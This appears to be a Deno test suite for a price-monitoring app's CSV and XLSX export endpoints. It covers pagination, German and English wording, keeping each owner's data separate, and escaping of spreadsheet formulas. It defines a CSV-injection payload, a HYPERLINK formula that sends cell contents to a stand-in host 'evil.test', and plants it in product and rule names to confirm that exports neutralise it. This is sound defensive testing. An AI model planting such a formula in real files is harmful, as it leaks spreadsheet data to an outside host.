import { HOUR_MS } from "../../src/base/time.ts";
import { deepStrictEqual as assertEquals, match, ok } from "node:assert/strict";
import { type Columns, openListTable } from "../../src/catalogue/lists/list_file.ts";
import { codeWords } from "../../src/engine/wording/code_words.ts";
import type { Caller } from "../caller.ts";
import { csvCells, germanTime } from "../csv_cells.ts";
import {
  addProduct,
  addRule,
  addSilentRule,
  push,
  untilJudged,
} from "../rules/evaluation/market.ts";
import { startTestApp, type TestApp } from "../harness.ts";
import { startErp } from "../market/export/erp.ts";
import { sheetsOf } from "../read_workbook.ts";
import { ended, withScrapingApp } from "../scraping/scraping_app.ts";
import { column, everyItem, refusalOf, refuses, valuesOf } from "./answers.ts";

const RUNS = '=HYPERLINK("http://evil.test/"&A1,"x")';

type Row = Readonly<Record<string, unknown>>;

interface FiledList {
  readonly path: string;
  /** By default, the list is read without a query. */
  readonly queries?: readonly string[];
  /** The field that identifies a row, and its column in the file; `id` by default. */
  readonly idIn?: string;
  /** The column with a text that a spreadsheet would run as a formula; null if there is none. */
  readonly hostileIn: string | null;
  /** True if the list has no pages. */
  readonly isWhole?: boolean;
  /** For each column with codes, the group of `codeWords` that has their words. */
  readonly words: Readonly<Record<string, keyof ReturnType<typeof codeWords>>>;
}

const LISTS: readonly FiledList[] = [
  {
    path: "/api/alerts",
    queries: ["", "order=desc", "severity=high"],
    hostileIn: "title",
    words: { severity: "severities", mail: "mails" },
  },
  { path: "/api/competitors", hostileIn: "displayName", words: { lastError: "scrapeErrors" } },
  {
    path: "/api/rules",
    hostileIn: "name",
    isWhole: true,
    words: { trigger: "triggers", actions: "actions" },
  },
  {
    path: "/api/scrape-runs",
    queries: ["", "order=desc", "status=failed"],
    hostileIn: "sku",
    words: { status: "jobStates", trigger: "runTriggers" },
  },
  {
    path: "/api/imports",
    queries: ["", "source=default", "source=other"],
    idIn: "jobId",
    hostileIn: null,
    words: { status: "jobStates", error: "findings", mode: "importModes" },
  },
  {
    path: "/api/import-sources",
    hostileIn: "name",
    words: { kind: "sourceKinds", mode: "importModes", lastImport: "jobStates" },
  },
  {
    path: "/api/price-arrivals",
    queries: ["", "status=missing", "status=waiting"],
    idIn: "productId",
    hostileIn: null,
    words: { status: "arrivals" },
  },
  {
    path: "/api/proposals",
    queries: ["", "status=open&sort=effect", "status=open&direction=up", "order=desc"],
    hostileIn: "title",
    words: { status: "proposalStatuses", effectBasis: "effectBases" },
  },
  {
    path: "/api/market/moves",
    queries: ["", "kind=new_offer", "kind=up", "hasCategory=true"],
    hostileIn: "title",
    isWhole: true,
    words: { kind: "moveKinds" },
  },
];

/** Fills every list; all names that people and files can choose are hostile. */
async function fill(app: TestApp): Promise<void> {
  const { owner } = app;
  const erp = await startErp(app);
  await erp.set("P", 11);
  await erp.set("Q", 21);
  await erp.set("R", 31);
  await erp.fetch();
  await erp.send({ P: "12,00", R: "31,00" });
  const actions = [
    { type: "propose_price", formula: "match_cheapest" },
    { type: "alert_inapp", severity: "high" },
  ];
  await addRule(owner, { name: RUNS, priority: 7, actions });
  await addRule(owner, { name: "Zweite", priority: 3, enabled: false });
  const ids: string[] = [];
  for (const sku of ["=A", "B", "C"]) {
    ids.push(await addProduct(owner, sku, { title: RUNS, category: "K" }));
  }
  await push(app, [["=A", "acme", 90], ["B", "acme", 80], ["C", "bolt", 95]]);
  await untilJudged(app);
  const { items } = await owner.read("/api/competitors");
  await owner.change(`/api/competitors/${items[0].id}`, { displayName: RUNS });
  await owner.create("/api/import-sources", { id: "other", name: RUNS });
  for (const id of ids) {
    const { runId } = await app.manager.begin(`/api/products/${id}/scrape-now`);
    await ended(app, runId);
  }
}

async function listed(caller: Caller, { path, isWhole }: FiledList, query: string): Promise<Row[]> {
  if (path === "/api/rules") {
    const rules: Row[] = await caller.read(path);
    return rules.toSorted((a, b) => Number(a.priority) - Number(b.priority));
  }
  if (isWhole) return (await caller.read(`${path}?limit=200&${query}`)).items;
  return await everyItem(caller, `${path}?limit=2&${query}`);
}

async function cellsAt(caller: Caller, path: string): Promise<string[][]> {
  return csvCells(await (await caller.get(path)).text(), ";");
}

async function sheetAt({ viewer }: TestApp, path: string): Promise<(string | null)[][]> {
  const workbook = await viewer.get(path);
  assertEquals(workbook.status, 200, path);
  return (await sheetsOf(await workbook.bytes()))["1"] ?? [];
}

async function agrees(app: TestApp, stranger: Caller, list: FiledList): Promise<void> {
  const { path, queries = [""], idIn = "id", hostileIn } = list;
  let seen = 0;
  for (const query of queries) {
    const where = `${path}?${query}`;
    const ids = column(await listed(app.viewer, list, query), idIn);
    const answer = await app.viewer.get(`${path}.csv?${query}`);
    assertEquals(answer.status, 200, where);
    match(answer.headers.get("Content-Disposition") ?? "", /^attachment; filename="[\w-]+\.csv"$/);
    const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await answer.arrayBuffer());
    ok(text.startsWith('\uFEFF"'), where);
    const [head = [], ...cells] = csvCells(text, ";");
    const at = head.indexOf(idIn);
    assertEquals(column(cells, at), ids, where);
    ok(cells.every((row) => row.length === head.length), where);
    for (const cell of cells.flat()) ok(!/^[=+@]/.test(cell), `${where}: ${cell}`);
    const plain = await app.viewer.get(`${path}.csv?dialect=rfc4180&${query}`);
    assertEquals(csvCells(await plain.text(), ",").length, cells.length + 1, where);

    const sheet = await sheetAt(app, `${path}.xlsx?${query}`);
    assertEquals(sheet[0], head, where);
    assertEquals(column(sheet.slice(1), at), ids, where);
    if (hostileIn !== null && query === "") {
      const place = head.indexOf(hostileIn);
      ok(cells.some((row) => /^'=|^'?@/.test(row[place] ?? "")), `${where}: nothing hostile`);
      // A workbook's text cells need no apostrophe.
      ok(sheet.some((row) => row[place]?.startsWith("=")), where);
    }
    seen += ids.length;
    const [, ...others] = await cellsAt(stranger, `${path}.csv?${query}`);
    assertEquals(column(others, at).filter((id) => id !== "default" && ids.includes(id)), []);
  }
  ok(seen > 1, `${path}: ${seen} rows`);
  await isWorded(app, list);
  for (const query of ["limit=2", "cursor=x", "nothing=1", "lang=fr"]) {
    for (const file of ["csv", "xlsx"]) await refusalOf(app.viewer.get(`${path}.${file}?${query}`));
  }
}

function localTime(cell: string, language: 0 | 1): string {
  const [day = "", time] = germanTime(cell).split(" ");
  return language === 0 ? `${day} ${time}` : `${day.split(".").toReversed().join("-")} ${time}`;
}

const FLAGS: Record<string, readonly string[]> = { true: ["ja", "yes"], false: ["nein", "no"] };

/**
 * Requires that files for people equal the file for programs, except for headings, codes, flags,
 * times and the sentences of rules.
 */
async function isWorded(app: TestApp, { path, words }: FiledList): Promise<void> {
  const read = (query: string) => cellsAt(app.viewer, `${path}.csv?${query}`);
  const [names = [], ...rows] = await read("");
  const [german, english] = [await read("lang=de"), await read("lang=en")];
  const rules = path === "/api/rules" ? await app.viewer.read(path) : [];
  const sentences: string[][] = rules
    .toSorted((a: Row, b: Row) => Number(a.priority) - Number(b.priority))
    .map(({ sentence }: { sentence: Row }) => [sentence.de, sentence.en]);
  const expected = (language: 0 | 1) =>
    rows.map((row, line) =>
      row.map((cell, at) => {
        const group = words[names[at] ?? ""];
        if (names[at] === "sentence") return sentences[line]?.[language];
        if (germanTime(cell) !== cell) return localTime(cell, language);
        if (group === undefined || cell === "") return FLAGS[cell]?.[language] ?? cell;
        const terms: Record<string, string> = codeWords(language === 0 ? "de" : "en")[group];
        return cell.split(" ").map((code) => terms[code] ?? `no word for ${code}`).join(", ");
      })
    );
  for (const [language, [head = [], ...others]] of [[0, german], [1, english]] as const) {
    assertEquals(others, expected(language), path);
    assertEquals(
      [head.length, new Set(head).size],
      [names.length, names.length],
      `${path} ${head}`,
    );
    ok(!head.includes(""), path);
  }
  assertEquals(german[0]?.filter((text) => names.includes(text)), [], path);
  const sheet = await sheetAt(app, `${path}.xlsx?lang=de`);
  assertEquals(sheet[0], german[0], path);
  for (const name of Object.keys(words)) {
    const at = names.indexOf(name);
    const [shown, written] = [sheet, german].map((rows) =>
      rows.slice(1).map((row) => row[at] ?? "")
    );
    assertEquals(shown, written, `${path} ${name}`);
  }
}

withScrapingApp.test("every list is a CSV and a workbook of all that fits, in its order, without a formula", async (app) => {
  await fill(app);
  const stranger = await app.strangerOwner();
  for (const list of LISTS) await agrees(app, stranger, list);
});

/** Two prices in quarantine and two closed brakes, of products with hostile names. */
async function fillWaiting(app: TestApp): Promise<{ readonly ruleId: string }> {
  const { owner } = app;
  await owner.change("/api/settings", { autoApply: true });
  const skus = ["=A", "B"];
  for (const sku of skus) await addProduct(owner, sku, { title: RUNS, costPrice: 20 });
  app.clock.advance(HOUR_MS);
  await push(app, skus.map((sku) => [sku, "acme", 100]));
  await untilJudged(app);
  const ruleId = await addSilentRule(app, {
    name: RUNS,
    when: { trigger: "market_index", always: true },
    marginFloor: { pct: 10 },
    brake: { cuts: 1, days: 2, restDays: 2 },
    actions: [{ type: "auto_apply_if_safe", price: { adjust: { cents: -1 } } }],
  });
  app.clock.advance(HOUR_MS);
  await push(app, [["=A", "acme", 99], ["B", "acme", 98]]);
  app.clock.advance(HOUR_MS);
  await push(app, [["=A", "acme", 45], ["B", "acme", 44]]);
  await untilJudged(app);
  return { ruleId };
}

Deno.test("prices that wait and brakes are files of all that fits, without a formula", async () => {
  await using app = await startTestApp({ holdsPrices: true });
  const { ruleId } = await fillWaiting(app);
  const stranger = await app.strangerOwner();
  await agrees(app, stranger, {
    path: "/api/quarantine",
    hostileIn: "title",
    words: { code: "suspicions", outcome: "verdicts" },
  });
  await agrees(app, stranger, {
    path: "/api/brakes",
    queries: ["", `ruleId=${ruleId}`, "ruleId=none"],
    idIn: "productId",
    hostileIn: "rule",
    words: {},
  });
  const isFirst = ({ sku }: Row) => sku === "'=A";
  const held = (await rowsOfFile(app, "/api/quarantine.csv")).filter(isFirst);
  assertEquals(
    valuesOf(held, "seen", "currency", "accepted", "code", "against", "outcome"),
    [["45,00", "EUR", "99,00", "fell", "99,00", ""]],
  );
  const brakes = (await rowsOfFile(app, `/api/brakes.csv?ruleId=${ruleId}`)).filter(isFirst);
  assertEquals(
    valuesOf(brakes, "cuts", "before", "after", "reference", "currency"),
    [["1", "100,00", "98,99", "99,00", "EUR"]],
  );
});

async function rowsOfFile({ viewer }: TestApp, path: string): Promise<Row[]> {
  const [head = [], ...rows] = await cellsAt(viewer, path);
  return rows.map((row) => Object.fromEntries(head.map((name, at) => [name, row[at]])));
}

withScrapingApp.test("amounts in files are in major units, and a run's results are a file, too", async (app) => {
  await fill(app);
  const arrivals = await rowsOfFile(app, "/api/price-arrivals.csv");
  assertEquals(
    valuesOf(arrivals, "sku", "status", "expected", "seen", "currency"),
    [["P", "not_arrived", "11,00", "12,00", "EUR"], ["Q", "waiting", "21,00", "", "EUR"]],
  );
  const proposals = await rowsOfFile(app, "/api/proposals.csv?status=open&sku=B");
  assertEquals(valuesOf(proposals, "current", "proposed"), [["100,00", "80,00"]]);
  const [first, second] = await rowsOfFile(app, "/api/rules.csv");
  assertEquals([first?.name, second?.priority], ["Zweite", "7"]);
  match(String(second?.sentence), /^Wenn /);

  const [run] = (await app.viewer.read("/api/scrape-runs")).items;
  const results = await rowsOfFile(app, `/api/scrape-runs/${run.id}/results.csv`);
  const fields = ["url", "status", "errorCode"];
  assertEquals(valuesOf(results, ...fields), valuesOf(run.results, ...fields));
  assertEquals(results.length, 1);
  for (const file of ["csv", "xlsx"]) {
    const path = `/api/scrape-runs/${"0".repeat(24)}/results.${file}`;
    await refuses(app.viewer.get(path), "not_found");
    const sorted = app.viewer.get(`/api/proposals.${file}?status=applied&sort=rule`);
    await refuses(sorted, "validation_failed");
  }
});

const NUMBERS: Columns<number> = { line: (n) => n, price: (n) => n / 2 };

async function rowsOf(read: Parameters<typeof openListTable<number>>[2]): Promise<unknown[]> {
  const { columns, batches } = await openListTable("numbers", NUMBERS, read);
  return [columns, ...(await Array.fromAsync(batches)).flat()];
}

Deno.test("a list is read page by page, each once the previous one is used up", async () => {
  const asked: (string | undefined)[] = [];
  const table = await openListTable("numbers", NUMBERS, ({ cursor }) => {
    asked.push(cursor);
    const n = Number(cursor ?? 0);
    const items = n === 2 ? [] : [n * 2, n * 2 + 1];
    return Promise.resolve({ items, count: items.length, nextCursor: n < 3 ? `${n + 1}` : null });
  });
  assertEquals(asked, [undefined]);
  const batches = table.batches[Symbol.asyncIterator]();
  await batches.next();
  assertEquals(asked, [undefined]);
  assertEquals((await batches.next()).value, [[2, 1], [3, 1.5]]);
  // An empty page before the last does not end the table.
  assertEquals((await batches.next()).value, [[6, 3], [7, 3.5]]);
  assertEquals([(await batches.next()).done, asked], [true, [undefined, "1", "2", "3"]]);
  const none = { items: [], count: 0, nextCursor: null };
  assertEquals(await rowsOf(() => Promise.resolve(none)), [["line", "price"]]);
});
